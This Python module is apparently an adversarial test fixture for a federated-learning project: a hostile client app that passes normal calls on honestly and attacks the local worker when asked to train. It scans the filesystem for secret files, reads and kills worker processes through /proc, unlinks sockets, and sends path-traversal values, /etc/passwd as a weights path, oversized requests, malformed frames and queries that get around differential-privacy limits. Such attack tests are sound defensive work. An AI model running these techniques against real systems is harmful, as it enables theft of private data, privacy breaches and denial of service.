"""A changed app, as a server's operator could submit it: takes the place of client_app/work.py.

It passes the roll call on honestly. Asked to train it goes for the images: opens them, walks the
file system, looks into the worker's process, and speaks to the workers' sockets by itself. What
it gets is written to the folder that the node gives its app, which stands for sending it home.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import struct
import threading
from collections import Counter
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

from flwr.app import Context, Message

from client_app.records import from_records, to_records
from fedpatchcore.bank.memory_bank import MemoryBank
from fedpatchcore.config import NodeConfig
from fedpatchcore.errors import WorkerError
from fedpatchcore.service.bodies import pack_body
from fedpatchcore.service.frames import Kind, read_frame, write_frame
from fedpatchcore.service.link import Link
from fedpatchcore.service.request import Request
from fedpatchcore.wire.banks import pack_bank
from fedpatchcore.wire.packet import Packet, pack_failure

TOLD: dict = {}  # what its maker knows of the sites; the test writes it
SMALL = 1 << 16  # bytes of a file that is read whole
SECRET = ("worker.toml", "ledger.jsonl", "own.safetensors", "private.json", "facts.safetensors")


def answer(verb: str, message: Message, context: Context) -> Message:
    """Honest but for train messages."""
    node = NodeConfig.from_node(context.node_config)
    packet = from_records(message.content)
    request = Request(verb, dict(context.run_config), packet, run=str(context.run_id))
    if verb != "train":
        told = Link(Path(node.worker)).answer(request)
    else:
        attack(node, request)
        told = pack_failure(node.site, WorkerError("nothing was given"))
    return Message(content=to_records(told), reply_to=message)


def attack(node: NodeConfig, request: Request) -> None:
    """All of it; what was got lies in loot.json and in answers.bin."""
    home = Path(os.environ["FEDPATCHCORE_HOME"])
    home.mkdir(parents=True, exist_ok=True)
    loot = {"uid": os.getuid(), "site": node.site, "opened": opened()}
    walking = threading.Thread(target=lambda: loot.update(walked=walked()))
    walking.start()
    loot["proc"] = looked_into()
    loot["own-service"] = own_service(node, request)
    loot["replaced"] = replaced(Path(node.worker))
    with (home / "answers.bin").open("ab") as kept:
        loot["settings"] = hostile_settings(node, request, kept)
        loot["names"] = other_names(node, request)
        loot["frames"] = hostile_frames(Path(node.worker))
        loot["asked"] = asked(node, request, kept)
    walking.join()
    (home / "loot.json").write_text(json.dumps(loot))


def opened() -> list[str]:
    """Files whose paths it was told."""
    found = []
    for path in [*TOLD["FILES"], TOLD["DATA"]]:
        with suppress(OSError):
            found.append(_listed(path) if Path(path).is_dir() else _read(path))
    return found


def walked() -> dict[str, str]:
    """Images and a site's own files anywhere: path → SHA-256 of what could be read."""
    found = {}
    for folder, below, files in os.walk("/"):
        if folder == "/":
            below[:] = [one for one in below if one not in ("proc", "sys", "dev")]
        for name in files:
            if name.endswith(".png") or name in SECRET:
                path = f"{folder}/{name}"
                with suppress(OSError):
                    if Path(path).stat().st_size <= SMALL:
                        found[path] = _read(path)
    return found


def looked_into() -> dict[str, list[str]]:
    """Of each worker's process: what could be read of memory, files, environment; a signal."""
    found: dict[str, list[str]] = {}
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            words = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"worker" not in words or int(entry.name) == os.getpid():
            continue
        got = found.setdefault(entry.name, [])
        for what in ("environ", "maps", "mem", "fd/3", "fd/4", "fd/5", "io", "auxv"):
            with suppress(OSError):
                got.append(f"{what}:{len((entry / what).open('rb').read(16))}")
        for what in ("root", "cwd", "fd"):
            with suppress(OSError):
                got.append(f"{what}:{_listed(entry / what)}")
        with suppress(OSError):
            os.kill(int(entry.name), 9)
            got.append("killed")
    return found


def own_service(node: NodeConfig, request: Request) -> str:
    """The site's work in this very process, without the site's words: dp-required dropped."""
    from flwr.common.logger import FLOWER_LOGGER

    from fedpatchcore.service.site_service import SiteService

    own = NodeConfig(site=node.site, data=TOLD["DATA"], dp_required=False)
    open_run = replace(request, settings={**request.settings, "dp": "off"}, packet=Packet())
    told = SiteService(own, name=node.site, log=FLOWER_LOGGER).answer(open_run)
    return str(told.texts.get("failure", "GIVEN"))


def replaced(path: Path) -> list[str]:
    """Putting another socket in the worker's place, or a file in its folder."""
    done = []
    with suppress(OSError):
        path.unlink()
        done.append("unlinked")
    with suppress(OSError):
        path.with_name("other").touch()
        done.append("made a file")
    with suppress(OSError):
        path.rename(path.with_name("moved"))
        done.append("renamed")
    return done


def asked(node: NodeConfig, request: Request, kept) -> dict[str, int]:
    """Asks again and again with other seeds, rounds, names of runs and settings; dp on and off."""
    told: Counter[str] = Counter()
    for at in range(TOLD["ASKS"][node.site]):
        dp = at % 4 != 3
        settings = {**request.settings, "seed": at}
        if dp:
            settings |= {"dp-epsilon": (0.5, 1.0, 2.0)[at % 3], "dp-budget-epsilon": 1e6}
        else:  # and nothing that would be refused before the site's own rule is asked
            settings = {key: value for key, value in settings.items() if not key.startswith("dp")}
        texts = {"round": at % 5, "run": f"hostile-{at}"}
        packet = Packet({}, {}, texts)
        if dp:
            packet = replace(request.packet, texts={**request.packet.texts, **texts})
        one = replace(request, settings=settings, packet=packet, run=f"{request.run}{at}")
        told[_given(node.worker, one, kept)] += 1
    return dict(told)


def hostile_settings(node: NodeConfig, request: Request, kept) -> dict[str, str]:
    """Settings that name files of the machine, rehearse attacks, or ask for huge sizes."""
    tried = {
        "weights=/etc/passwd": {"backbone": "squeezenet1_1", "weights": "/etc/passwd"},
        "weights=an image": {"backbone": "squeezenet1_1", "weights": TOLD["FILES"][0]},
        "attack": {"attack": "noise", "malicious-fraction": 0.5},
        "image-size": {"image-size": 10**9},
        "coreset-size": {"coreset-size": 10**12, "dp": "off"},
        "batch-size": {"batch-size": 10**9},
        "threads": {"threads": 10**9},
        "workers": {"workers": 10**9},
        "heatmaps": {"heatmaps": 10**9},
        "dp-waves": {"dp-waves": 10**12, "dp": "kernel"},
        "dp-share-metrics": {"dp-share-metrics": True},
        "infinite epsilon": {"dp-epsilon": float("inf")},
        "unknown": {"dp-required": False},
        "a list": {"seed": [1, 2]},
    }
    given = {}
    for name, changes in tried.items():
        one = replace(request, settings={**request.settings, **changes})
        given[name] = _given(node.worker, one, kept)
    bank = pack_bank(MemoryBank.load(TOLD["BANK"]))
    for folder in ("..", "/", "../../../"):
        packet = replace(bank, texts={**bank.texts, "run-folder": folder, "run": "x", "round": 1})
        one = replace(request, verb="evaluate", packet=packet)
        given[f"run-folder={folder}"] = _given(node.worker, one, kept)
    nothing = replace(request, verb="evaluate", packet=Packet())
    given["no bank"] = _given(node.worker, nothing, kept)
    return given


def other_names(node: NodeConfig, request: Request) -> dict[str, str]:
    """Another site's name in the request, and the other site's worker."""
    told = {**request.told(), "site": "somebody-else"}
    facts = {**told, "verb": "facts", "numbers": {}, "texts": {}}
    found = {"name": _sent(node.worker, pack_body(facts, {}))[0]}
    for path in TOLD["SOCKETS"]:
        if path != node.worker:
            found[TOLD["SITE_OF"][path]] = _sent(path, pack_body(told, {}))[0]
    return found


def hostile_frames(path: Path) -> dict[str, str]:
    """What is no frame, or one that announces what never comes."""
    head = struct.Struct("<4sBBHQ")
    deep = b"[" * 100_000
    tried = {
        "garbage": os.urandom(64),
        "http": b"GET / HTTP/1.1\r\n\r\n",
        "version": head.pack(b"FPCW", 9, 2, 0, 0),
        "kind": head.pack(b"FPCW", 1, 99, 0, 0),
        "huge": head.pack(b"FPCW", 1, 2, 0, 1 << 60),
        "huge health": head.pack(b"FPCW", 1, 7, 0, 1 << 40),
        "deep": head.pack(b"FPCW", 1, 2, 0, len(deep)) + deep,
        "empty": head.pack(b"FPCW", 1, 2, 0, 0),
        "answer": head.pack(b"FPCW", 1, 4, 0, 0),
    }
    return {name: _raw(path, data) for name, data in tried.items()}


def _given(path: str, request: Request, kept) -> str:
    """What the worker says to a request: the reason of a refusal, or GIVEN."""
    why, body = _sent(path, pack_body(request.told(), request.packet.arrays))
    kept.write(body)
    return why


def _sent(path: str, body: bytes) -> tuple[str, bytes]:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as own:
        own.settimeout(120)
        try:
            own.connect(path)
            hello = read_frame(own)
            if hello.kind == Kind.REFUSED:
                return str(hello.told["reason"]), b""
            write_frame(own, Kind.REQUEST, body=body)
            while (frame := read_frame(own, largest=1 << 30)).kind == Kind.PROGRESS:
                pass
        except (OSError, WorkerError) as error:
            return f"{type(error).__name__}: {error}", b""
    if frame.kind == Kind.REFUSED:
        return str(frame.told["reason"]), b""
    texts = frame.told["texts"]
    got = b"".join(one.tobytes() for one in frame.arrays.values()) + json.dumps(texts).encode()
    return str(texts.get("failure", f"GIVEN by {texts.get('site', '')}")), got


def _raw(path: Path, data: bytes) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as own:
        own.settimeout(60)
        try:
            own.connect(str(path))
            read_frame(own)
            own.sendall(data)
            return str(read_frame(own).told.get("reason", "?"))
        except (OSError, WorkerError) as error:
            return f"{type(error).__name__}: {error}"


def _listed(path: str | Path) -> str:
    return str(sorted(one.name for one in Path(path).iterdir())[:3])


def _read(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()
